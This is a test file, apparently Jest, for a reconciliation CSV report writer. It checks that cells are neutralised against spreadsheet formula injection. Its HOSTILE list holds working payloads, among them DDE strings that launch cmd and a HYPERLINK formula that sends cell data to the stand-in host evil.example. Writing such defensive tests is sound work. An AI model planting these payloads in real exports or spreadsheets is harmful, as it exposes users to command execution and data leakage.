import type { DiffRow } from '../../../src/relay/reconcile/compare';
import { toCsv } from '../../../src/relay/reconcile/report-writer';

/** A strict RFC 4180 parser: quoted fields may hold commas, quotes ("") and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
      if (i < text.length && text[i] !== ',' && !text.startsWith('\r\n', i)) throw new Error(`stray text after a quoted field at ${i}`);
    } else {
      while (i < text.length && text[i] !== ',' && !text.startsWith('\r\n', i)) {
        if (text[i] === '"' || text[i] === '\r' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        cell += text[i++];
      }
    }
    record.push(cell);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) i += 2;
    records.push(record);
    record = [];
    if (i >= text.length) return records;
  }
}

/** What spreadsheet programs run as a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE = [
  "+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1,2\r\n"x"',
];

describe('reconcile CSV: formula injection', () => {
  it('writes no cell that starts with a formula character, and keeps every text apart from the quote prefix', () => {
    const rows: DiffRow[] = HOSTILE.map((text, i) => ({ orderId: text, uid: `=u${i}`, gravityStatus: '@posted', relayAmount: 100 + i, gravityAmount: 100 + i }));
    const parsed = parseCsv(toCsv(rows));
    expect(parsed[0][0]).toBe('order_id');
    const body = parsed.slice(1);
    expect(body).toHaveLength(HOSTILE.length);
    const columns = parsed[0];
    body.forEach((cells, i) => {
      expect(cells).toHaveLength(columns.length);
      for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
      const cell = (name: string) => cells[columns.indexOf(name)];
      expect(cell('order_id')).toBe(`'${HOSTILE[i]}`);
      expect(cell('uid')).toBe(`'=u${i}`);
      expect(cell('gravity_status')).toBe("'@posted");
      expect(cell('relay_amount_minor')).toBe(String(100 + i));
    });
  });

  it('leaves ordinary cells alone (numbers, ids, text with a formula character inside)', () => {
    const parsed = parseCsv(toCsv([{ orderId: 'a-b=c+d@e', uid: 'oI2nx3EUnScOMVVBJBYq-1234567', relayAmount: 999, relayCurrency: 'CNY' }]));
    expect(parsed[1].slice(0, 5)).toEqual(['a-b=c+d@e', '999', 'CNY', '', 'oI2nx3EUnScOMVVBJBYq-1234567']);
  });
});
